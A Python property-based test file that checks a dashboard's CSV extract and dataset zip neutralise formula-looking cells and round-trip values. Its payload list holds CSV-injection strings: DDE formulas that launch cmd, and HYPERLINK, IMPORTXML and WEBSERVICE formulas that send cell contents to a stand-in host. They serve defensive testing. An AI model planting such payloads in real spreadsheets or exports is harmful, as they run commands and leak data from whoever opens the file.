"""Property-based: hostile text in every text column of every table never leaves an extract as
a formula, numbers stay numbers, and every CSV parses back to the values that went in."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
import zipfile

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboard import extract
from dashboard.query import Filters
from dashboard.store import COLUMNS, Store
from validation.loader import Dataset
from validation.schemas import NUMBER, TABLES

# What spreadsheets run as a formula or a DDE call (OWASP "CSV injection"), stated here
# independently of the module under test, plus whatever else the module chooses to treat so.
TRIGGERS = tuple(dict.fromkeys(("=", "+", "-", "@", "\t", "\r", *extract.FORMULA_TRIGGERS)))
BOM = b"\xef\xbb\xbf"
# Every test: no example database written into the work tree, no flaky timing failures.
COMMON = {"database": None, "deadline": None,
          "suppress_health_check": [HealthCheck.too_slow, HealthCheck.data_too_large]}
# Columns the extract writes as something other than neutralised text.
EXTRACT_DATES = ("period_start", "period_end")
EXTRACT_NON_TEXT = frozenset({"value", "secondary", "preferred", *EXTRACT_DATES})
TABLE_NAMES = tuple(file.removesuffix(".csv") for file in TABLES)
NUMERIC_CELL = re.compile(r"\d+(\.\d+)?(e[+-]\d+)?")
ISO_DAY = re.compile(r"\d{4}-\d{2}-\d{2}")

# -- hostile text -------------------------------------------------------------------------
PAYLOADS = (
    '=cmd|"/c calc"!A1', "=cmd|' /C calc'!A0", "@SUM(1)", "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1",
    "-1", "-2+3", "=1+1", "+cmd|'/C notepad'!'A1'", "-cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', "=HYPERLINK(\"http://x.test/?\"&A1,\"ok\")",
    '=IMPORTXML(CONCAT("http://x.test/?v=", A1), "//a")', "=WEBSERVICE(\"http://x.test\")",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1", "   @x", "\u00a0=1", "\u3000+1", "\x0b-1",
    "\x0c@A1", "\x1c=1", "\t", "\r", "\n", "\r\n", "=", "+", "-", "@", "'", "'=1", "''", " ",
    '"', '""', '","', '=",","', "a,b", ",=1", "line1\nline2", "line1\r\nline2", "=a\r\nb",
    "\ufeff=1", "\u200b=1", "=1\x00", "\x1b[31mred", "Canada 36,908", "",
    # Unicode look-alikes: not triggers, so they pass through untouched, but must round-trip.
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "\u2212 1", "\u2013 1", "\ufe62 1",
)
WHITESPACE = " \t\r\n\x0b\x0c\x1c\x1d\x1e\x1f\x85\u00a0\u2000\u2028\u3000"
SPECIALS = "\"',;|!=+-@\t\r\n ab1é\u00a0\uff1d"


def _long(prefix: str, unit: str, times: int) -> str:
    return prefix + unit * times


hostile_text = st.one_of(
    st.text(),
    st.sampled_from(PAYLOADS),
    st.builds(str.__add__, st.sampled_from((*TRIGGERS, "\n")), st.text(max_size=20)),
    st.builds(lambda ws, t, rest: ws + t + rest, st.text(WHITESPACE, min_size=1, max_size=4),
              st.sampled_from(TRIGGERS), st.text(max_size=20)),
    st.text(SPECIALS, max_size=30),
    st.text(st.characters(categories=["Cc", "Cf", "Zs", "Zl", "Zp"], exclude_characters="\x00"),
            max_size=10),
    st.builds(_long, st.sampled_from(("", *TRIGGERS, " =")), st.sampled_from(
        ("A", "=1,", '"\r\n', "é", "\U0001f600")), st.integers(1_000, 8_000)),
)
# A cell may also be missing: the frames use NaN (StringDtype with na_value=nan) or None.
hostile_or_missing = st.one_of(hostile_text, st.none(), st.just(math.nan))
numbers = st.one_of(
    st.integers(0, 10**12),
    st.floats(0, 1e12, allow_nan=False, allow_infinity=False),
    st.decimals(0, 10**12, places=3, allow_nan=False, allow_infinity=False),
    st.sampled_from((0, 0.5, 67.1, 29397681, 1e12, 123456789012, 0.1 + 0.2, 5e-324, 1e-7)),
)
# The value column as the source CSV holds it: a plain non-negative number, no separators.
number_strings = st.one_of(
    st.integers(0, 10**12).map(str),
    st.decimals(0, 10**12, places=4, allow_nan=False, allow_infinity=False).map(
        lambda d: format(d, "f")),
).filter(lambda s: re.fullmatch(NUMBER, s) is not None)
days = st.dates(dt.date(1990, 1, 1), dt.date(2100, 12, 31)).map(pd.Timestamp)


# -- what a cell must look like after the round trip ---------------------------------------
def _parse(body: bytes) -> tuple[list[str], list[list[str]]]:
    assert body.startswith(BOM), "UTF-8 BOM expected"
    header, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
    return header, rows


def _is_missing(value: object) -> bool:
    return value is None or (isinstance(value, float) and math.isnan(value))


def _triggers(text: str) -> bool:
    return text.startswith(TRIGGERS) or text.lstrip().startswith(TRIGGERS)


def _assert_safe(cell: str) -> None:
    assert not cell.startswith(TRIGGERS), f"formula trigger at the start of {cell[:80]!r}"
    assert not cell.lstrip().startswith(TRIGGERS), f"formula trigger after spaces: {cell[:80]!r}"


def _assert_text(cell: str, original: object) -> None:
    _assert_safe(cell)
    text = "" if _is_missing(original) else str(original)
    assert cell == ("'" + text if _triggers(text) else text)


def _assert_number(cell: str, original: object) -> None:
    _assert_safe(cell)
    assert NUMERIC_CELL.fullmatch(cell), f"not a plain number: {cell!r}"
    number = float(original)
    assert float(cell) == number
    if number.is_integer():
        assert cell.isdigit() and int(cell) == int(number), f"integer written as {cell!r}"


def _assert_day(cell: str, original: pd.Timestamp) -> None:
    assert ISO_DAY.fullmatch(cell) and cell == f"{original:%Y-%m-%d}"


def _assert_cell(column: str, cell: str, original: object) -> None:
    if original is pd.NaT:  # a missing date is an empty cell
        assert cell == ""
    elif column == "value":
        _assert_number(cell, original)
    elif isinstance(original, pd.Timestamp):
        _assert_day(cell, original)
    elif isinstance(original, bool):
        assert cell == ("yes" if original else "no")
    else:
        _assert_text(cell, original)


def _assert_table(body: bytes, rows: list[dict], columns: dict[str, str]) -> None:
    header, parsed = _parse(body)
    assert header == list(columns.values())
    assert len(parsed) == len(rows), "an embedded line break split or merged rows"
    for row, cells in zip(rows, parsed, strict=True):
        assert len(cells) == len(columns)
        for column, cell in zip(columns, cells, strict=True):
            _assert_cell(column, cell, row[column])


# -- the extract: rows shaped like Store query results ------------------------------------
@pytest.fixture(scope="module")
def templates(store):
    """Real query rows: one per indicator, primary and secondary, as extract_csv receives them."""
    frame = store.frame
    picks = frame.drop_duplicates("indicator_id").index.union(
        frame.drop_duplicates("secondary").index)
    rows = frame.loc[picks].to_dict("records")
    assert {r["secondary"] for r in rows} == {True, False}
    return rows


def test_templates_cover_every_extract_column(templates):
    row = templates[0]
    assert list(row) == COLUMNS and set(extract.EXTRACT_COLUMNS) <= set(COLUMNS)
    text = {c for c in COLUMNS if isinstance(row[c], str)}
    assert set(extract.EXTRACT_COLUMNS) - EXTRACT_NON_TEXT <= text
    assert all(isinstance(row[c], pd.Timestamp) for c in EXTRACT_DATES)
    assert isinstance(row["secondary"], bool) and isinstance(row["value"], float)


@settings(max_examples=150, **COMMON)
@given(data=st.data())
def test_hostile_text_in_every_extract_column_is_neutralised_and_round_trips(templates, data):
    rows = []
    for template in data.draw(st.lists(st.sampled_from(templates), min_size=1, max_size=4)):
        row = dict(template)
        for column in COLUMNS:
            if isinstance(template[column], str):
                row[column] = data.draw(hostile_text, label=column)
        row["value"] = data.draw(numbers, label="value")
        row["period_start"], row["period_end"] = sorted(data.draw(st.tuples(days, days)))
        row["secondary"] = data.draw(st.booleans(), label="secondary")
        rows.append(row)
    body = extract.write_csv(rows, extract.EXTRACT_COLUMNS)
    _assert_table(body, rows, extract.EXTRACT_COLUMNS)
    _, parsed = _parse(body)
    for cells in parsed:
        row = dict(zip(extract.EXTRACT_COLUMNS.values(), cells, strict=True))
        assert row["secondary_source"] in ("yes", "no")
        assert ISO_DAY.fullmatch(row["period_start"]) and ISO_DAY.fullmatch(row["period_end"])


@settings(max_examples=300, **COMMON)
@given(text=hostile_or_missing)
def test_neutralise_prefixes_exactly_the_formula_looking_cells(text):
    body = extract.write_csv([{"t": text}], {"t": "t"})
    _assert_table(body, [{"t": text}], {"t": "t"})
    if isinstance(text, str):
        safe = extract.neutralise(text)
        assert safe == ("'" + text if _triggers(text) else text)


# -- the dataset zip: every table, every column -------------------------------------------
def _table_rows(data, columns: tuple[str, ...], dates: frozenset[str]) -> list[dict]:
    rows = []
    for _ in range(data.draw(st.integers(1, 4), label="rows")):
        row = {}
        for column in columns:
            if column == "value":
                row[column] = data.draw(st.one_of(number_strings, numbers), label=column)
            elif column in dates:  # the typed frame holds Timestamps; hostile text must not pass
                row[column] = data.draw(st.one_of(days, hostile_or_missing), label=column)
            else:
                row[column] = data.draw(hostile_or_missing, label=column)
        rows.append(row)
    return rows


@pytest.fixture(scope="module")
def date_columns(dataset):
    """The columns the loader types as dates, per table (what dataset_zip really hands over)."""
    return {name: frozenset(c for c in TABLES[f"{name}.csv"][1]
                            if pd.api.types.is_datetime64_any_dtype(dataset.table(name)[c]))
            for name in TABLE_NAMES}


@pytest.mark.parametrize("file", list(TABLES))
@settings(max_examples=40, **COMMON)
@given(data=st.data())
def test_hostile_text_in_every_column_of_every_table_is_neutralised(file, date_columns, data):
    name = file.removesuffix(".csv")
    columns = TABLES[file][1]
    rows = _table_rows(data, columns, date_columns[name])
    spec = {c: c for c in columns}  # exactly as dataset_zip calls the writer
    _assert_table(extract.write_csv(rows, spec), rows, spec)




@settings(max_examples=50, **COMMON)
@given(data=st.data())
def test_missing_dates_parse_back_empty(date_columns, data):
    name = data.draw(st.sampled_from([n for n in TABLE_NAMES if date_columns[n]]))
    spec = {c: c for c in date_columns[name]}
    rows = data.draw(st.lists(st.fixed_dictionaries(
        {c: st.one_of(days, st.just(pd.NaT)) for c in spec}), min_size=1, max_size=3))
    _, parsed = _parse(extract.write_csv(rows, spec))
    for row, cells in zip(rows, parsed, strict=True):
        for column, cell in zip(spec, cells, strict=True):
            assert cell == ("" if row[column] is pd.NaT else f"{row[column]:%Y-%m-%d}")


def test_undated_endorsements_are_empty_in_the_real_dataset_zip(store):
    body = extract.dataset_zip(store, "readme")
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("endorsements.csv").decode("utf-8-sig"),
                                               newline="")))
    undated = [r["endorsed_on"] for r in rows if r["date_precision"] == "unknown"]
    assert undated and undated == [""] * len(undated)


# -- end to end: the real extract_csv and dataset_zip over a hostile Dataset ---------------
def _hostile_frames(dataset: Dataset, data) -> dict[str, pd.DataFrame]:
    """The real tables with one indicator and one source renamed to hostile ids everywhere,
    and every other text column of a sample of rows of every table made hostile."""
    frames = {name: dataset.table(name).copy() for name in TABLE_NAMES}
    ids = {"indicator_id": set(frames["indicators"]["indicator_id"]),
           "source_id": set(frames["sources"]["source_id"])}
    for key, taken in ids.items():
        old = data.draw(st.sampled_from(sorted(taken)), label=f"renamed {key}")
        new = data.draw(hostile_text.filter(lambda t, taken=taken: t not in taken),
                        label=f"hostile {key}")
        for frame in frames.values():
            if key in frame:
                frame[key] = frame[key].mask(frame[key] == old, new)
    for name, frame in frames.items():
        columns = [c for c in frame.columns if pd.api.types.is_string_dtype(frame[c])
                   and c not in ids]
        picks = data.draw(st.lists(st.integers(0, len(frame) - 1), min_size=1, max_size=6,
                                   unique=True), label=f"{name} rows")
        for i in picks:
            for column in columns:
                frame.iloc[i, frame.columns.get_loc(column)] = data.draw(
                    hostile_text, label=f"{name}.{column}")
    return frames


@settings(max_examples=5, **COMMON)
@given(data=st.data())
def test_real_extract_and_zip_of_a_hostile_dataset_are_spreadsheet_safe(dataset, data):
    frames = _hostile_frames(dataset, data)
    store = Store(Dataset(dataset.data_dir, "hostile", frames))

    every = Filters(source_kinds=())  # no kind filter: the zip holds every row, whatever kind
    body = extract.extract_csv(store, every)
    rows = store.query(every).to_dict("records")
    assert len(rows) == len(frames["observations"])
    _assert_table(body, rows, extract.EXTRACT_COLUMNS)
    renamed = {r["indicator_id"] for r in rows} - set(dataset.indicators["indicator_id"])
    assert len(renamed) == 1, "the hostile indicator id must reach the extract"

    with zipfile.ZipFile(io.BytesIO(extract.dataset_zip(store, "readme"))) as zf:
        for file, (_, columns) in TABLES.items():
            table = store.dataset.table(file.removesuffix(".csv")).to_dict("records")
            _assert_table(zf.read(file), table, {c: c for c in columns})
        assert zf.read("extract.csv") == body  # every row, through the same writer
    # The store holds observations once (sorted): the same rows as the dataset it was given.
    key = ["indicator_id", "period_start", "period_end", "geography", "breakdown", "source_id"]
    held = store.dataset.table("observations").sort_values(key).reset_index(drop=True)
    given_ = frames["observations"][list(held.columns)].sort_values(key).reset_index(drop=True)
    pd.testing.assert_frame_equal(held, given_, check_dtype=False, check_column_type=False)
